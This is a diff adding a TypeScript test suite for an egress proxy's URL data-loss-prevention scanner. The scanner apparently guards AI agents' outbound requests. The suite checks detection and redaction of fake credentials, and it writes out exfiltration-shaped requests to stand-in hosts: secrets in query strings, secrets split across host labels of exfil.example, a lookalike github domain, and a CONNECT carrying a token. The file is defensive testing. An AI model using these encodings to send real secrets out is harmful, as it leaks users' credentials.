@@ -1,0 +1,199 @@
+import './dial-guard.js';
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { ProxyAgent, request } from 'undici';
+import { BUILTIN_DETECTORS, policyDetectors } from '../../src/engine/dlp/detectors.js';
+import { createUrlScanner, secretForms } from '../../src/engine/dlp/url-scan.js';
+import { parseRequestTarget } from '../../src/policy/target.js';
+import { parseDestination } from '../../src/policy/destination.js';
+import {
+  cleanup,
+  decisions,
+  echo,
+  policyFrom,
+  rawExchange,
+  readEvidenceDir,
+  startEngine,
+  startOrigin,
+  type RunningEngine,
+} from './helpers.js';
+
+// Fake credentials in the real formats (never issued by anyone).
+const SAMPLES: Record<string, string> = {
+  'github-token': `ghp_${'a1B2c3D4e5'.repeat(3)}a1B2c3`,
+  'github-fine-grained-token': `github_pat_${'A'.repeat(22)}_${'b'.repeat(59)}`,
+  'aws-access-key-id': 'AKIAABCDEFGHIJKLMNOP',
+  'aws-secret-access-key': `aws_secret_access_key=${'wJalrXUtnFEMI/K7MDENG+bPxRfiCY'}EXAMPLEKEY`,
+  'slack-token': 'xoxb-123456789012-abcdefghijkl',
+  'anthropic-api-key': `sk-ant-api03-${'x'.repeat(30)}`,
+  'openai-api-key': `sk-proj-${'y'.repeat(40)}`,
+  'google-api-key': `AIza${'Q'.repeat(35)}`,
+  'npm-token': `npm_${'n'.repeat(36)}`,
+  'pypi-token': `pypi-${'p'.repeat(60)}`,
+  'stripe-key': `sk_live_${'s'.repeat(30)}`,
+  'private-key': '-----BEGIN OPENSSH PRIVATE KEY-----',
+  jwt: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZ2VudCJ9.c2lnbmF0dXJlLWJ5dGVz',
+  'credential-in-url': 'password=hunter2hunter2',
+};
+
+function scan(target: string, scanner = createUrlScanner(BUILTIN_DETECTORS, [])) {
+  const parsed = parseRequestTarget(target);
+  if (!parsed.ok) throw new Error(parsed.problem);
+  return scanner.scan(target, parsed.target.host, parsed.target.port);
+}
+
+for (const [name, sample] of Object.entries(SAMPLES)) {
+  test(`URL DLP finds ${name} and cuts it out of the recorded target`, () => {
+    // A URL credential is a query parameter of its own; the rest ride inside one.
+    const query = name === 'credential-in-url' ? sample : `q=${encodeURIComponent(sample)}`;
+    const target = `https://paste.example/upload?${query}&x=1`;
+    const found = scan(target);
+    assert.equal(found?.detector, name);
+    assert.ok(!found.redactedTarget.includes(encodeURIComponent(sample)), found.redactedTarget);
+    assert.ok(!decodeURIComponent(found.redactedTarget).includes(sample), found.redactedTarget);
+  });
+}
+
+test('ordinary URLs are not findings', () => {
+  for (const url of [
+    'https://api.github.com/repos/acme/widgets/issues?state=open&per_page=100',
+    'https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz',
+    'https://api.github.com/repos/acme/widgets/commits/0123456789abcdef0123456789abcdef01234567',
+    'https://docs.example.com/a/b?id=6f1c2a44-8b1e-4a52-9a9b-3b2f6f4c1e7a&token_type=bearer',
+    'https://skyline.example/sk-short',
+  ]) {
+    assert.equal(scan(url), undefined, url);
+  }
+});
+
+const TOKEN = 'agent-secret-5f2b9c1e7a';
+const binding = (allow: string[]) => ({
+  env: 'AGENT_TOKEN',
+  value: TOKEN,
+  allow: allow.map((text) => {
+    const parsed = parseDestination(text);
+    if (!parsed.ok) throw new Error(parsed.problem);
+    return parsed.destination;
+  }),
+});
+
+test('a bound secret is found in every spelling a URL can carry', () => {
+  const scanner = createUrlScanner([], [binding(['api.github.com'])]);
+  for (const form of secretForms(TOKEN)) {
+    const found = scan(`https://paste.example/p?d=${form}`, scanner);
+    assert.equal(found?.detector, 'secret:AGENT_TOKEN', form);
+    assert.ok(!found.redactedTarget.includes(form), found.redactedTarget);
+  }
+});
+
+test('a bound secret may go to its allowed destinations (and only there)', () => {
+  const scanner = createUrlScanner(BUILTIN_DETECTORS, [binding(['api.github.com'])]);
+  assert.equal(scan(`https://api.github.com/user?access=${TOKEN}`, scanner), undefined);
+  assert.equal(
+    scan(`https://api.github.com.evil.example/?t=${TOKEN}`, scanner)?.detector,
+    'secret:AGENT_TOKEN',
+  );
+});
+
+test('a secret split over host labels is found, and nothing of that host is recorded', () => {
+  const scanner = createUrlScanner([], [binding([])]);
+  const found = scan(`https://agent-secret.5f2b9c1e7a.exfil.example/`, scanner);
+  assert.equal(found?.detector, 'secret:AGENT_TOKEN');
+  assert.equal(found.where, 'host name');
+  assert.equal(found.redactedTarget, '[REDACTED:secret:AGENT_TOKEN]');
+});
+
+test("the policy's own patterns run, and dlp.builtin: false turns the built-ins off", () => {
+  const policy = policyFrom(`version: "1.0"
+egress: []
+dlp:
+  builtin: false
+  patterns:
+    - name: acme-key
+      regex: "acme_live_[A-Za-z0-9]{8}"
+`);
+  const scanner = createUrlScanner(policyDetectors(policy), []);
+  assert.equal(scan('https://x.example/?k=acme_live_ABCD1234', scanner)?.detector, 'acme-key');
+  assert.equal(scan(`https://x.example/?k=${SAMPLES['github-token']}`, scanner), undefined);
+});
+
+function evidenceText(proxy: RunningEngine): string {
+  return readdirSync(proxy.dir)
+    .map((name) => readFileSync(join(proxy.dir, name), 'utf8'))
+    .join('');
+}
+
+test('the engine refuses a URL that carries a credential: 403 dlp, origin untouched, no secret in the evidence', async () => {
+  const origin = await startOrigin(echo);
+  const proxy = await startEngine({
+    pins: { 'api.example.test': '127.0.0.1' },
+    policy: `version: "1.0"
+mode: audit
+egress:
+  - destination: "api.example.test"
+    ports: [${origin.port}]
+  - destination: "127.0.0.1"
+    ports: [${origin.port}]
+`,
+  });
+  const agent = new ProxyAgent({ uri: proxy.proxyUrl, proxyTunnel: false });
+  const token = SAMPLES['github-token'] ?? '';
+  try {
+    const response = await request(`http://api.example.test:${origin.port}/p?t=${token}`, {
+      dispatcher: agent,
+    });
+    assert.equal(response.statusCode, 403);
+    assert.equal(response.headers['x-pipelock-egress-block'], 'dlp');
+    assert.equal(await response.body.text(), 'blocked: DLP match: github-token in the URL\n');
+    assert.equal(origin.hits, 0);
+    await proxy.stop();
+    const [receipt] = decisions(readEvidenceDir(proxy.dir).receipts);
+    assert.equal(receipt?.action_record.verdict, 'block', 'audit mode does not let a secret out');
+    assert.equal(receipt?.action_record.layer, 'dlp');
+    assert.equal(
+      receipt?.action_record.target,
+      `http://api.example.test:${origin.port}/p?t=[REDACTED:github-token]`,
+    );
+    assert.ok(!evidenceText(proxy).includes(token));
+  } finally {
+    await agent.close();
+    await proxy.stop();
+    await origin.close();
+    cleanup(join(proxy.dir, '..'));
+  }
+});
+
+test('a CONNECT whose host name carries a bound secret is refused before any lookup', async () => {
+  const lookups: string[] = [];
+  const proxy = await startEngine({
+    lookup: (hostname) => {
+      lookups.push(hostname);
+      return Promise.reject(new Error('no lookups in this test'));
+    },
+    secretValues: { AGENT_TOKEN: TOKEN },
+    policy: `version: "1.0"
+egress:
+  - destination: "*.exfil.test"
+secrets:
+  - env: AGENT_TOKEN
+    allow: ["api.github.com"]
+`,
+  });
+  try {
+    const raw = await rawExchange(
+      proxy.port,
+      'CONNECT agent-secret.5f2b9c1e7a.exfil.test:443 HTTP/1.1\r\nHost: agent-secret.5f2b9c1e7a.exfil.test:443\r\n\r\n',
+    );
+    assert.match(raw.text, /^HTTP\/1\.1 403 /);
+    assert.match(raw.text, /X-Pipelock-Egress-Block: dlp/i);
+    assert.match(raw.text, /blocked: DLP match: secret:AGENT_TOKEN in the host name/);
+    assert.deepEqual(lookups, []);
+    await proxy.stop();
+    assert.ok(!evidenceText(proxy).includes('5f2b9c1e7a'));
+  } finally {
+    await proxy.stop();
+    cleanup(join(proxy.dir, '..'));
+  }
+});
